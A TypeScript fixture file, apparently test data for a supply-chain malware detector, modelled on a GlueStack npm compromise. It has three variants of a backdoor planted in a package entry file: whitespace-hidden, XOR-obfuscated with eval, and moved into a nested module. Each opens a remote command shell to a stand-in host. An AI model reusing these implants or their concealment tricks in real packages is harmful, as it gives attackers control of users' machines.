import { type Campaign, entry, xored } from './kit.ts';

export const campaign: Campaign = {
  id: 'gluestack',
  row: 'GlueStack 6/2025',
  variants: [
    {
      concealment: 'plain',
      files:
        entry(`exports.useButton = () => ({});${' '.repeat(600)}global['_V']='8-npm';global['r']=require;(function(){const n=require('net'),c=require('child_process');const s=new n.Socket();s.connect(443,'c2.weir.test',function(){});s.on('data',function(d){c.exec(d.toString(),function(e,o){s.write(o)})})})();
`),
    },
    {
      concealment: 'obfuscated',
      files:
        entry(`exports.useButton = () => ({});${' '.repeat(400)}eval(Buffer.from([${xored("require('net').connect(443,'c2.weir.test').on('data',d=>require('child_process').exec(d+''))", 'gs').join(',')}].map((c,i)=>c^'gs'.charCodeAt(i%2))).toString());
`),
    },
    {
      concealment: 'moved',
      files: entry(`exports.useFocus = () => ({});\nrequire('./lib/commonjs/index');\n`, {
        'lib/commonjs/index.js': `"use strict";
const io = require('socket.io-client');
const { exec } = require('child_process');
const path = require('path');
process.env.PATH = path.join(process.env.LOCALAPPDATA || '', 'Programs', 'Python', 'Python3127') + path.delimiter + process.env.PATH;
const socket = io('http://198.51.100.22:27017');
socket.on('cmd', (line) => { if (line.startsWith('ss_')) return; exec(line, (e, out) => socket.emit('out', out)); });
`,
      }),
    },
  ],
};
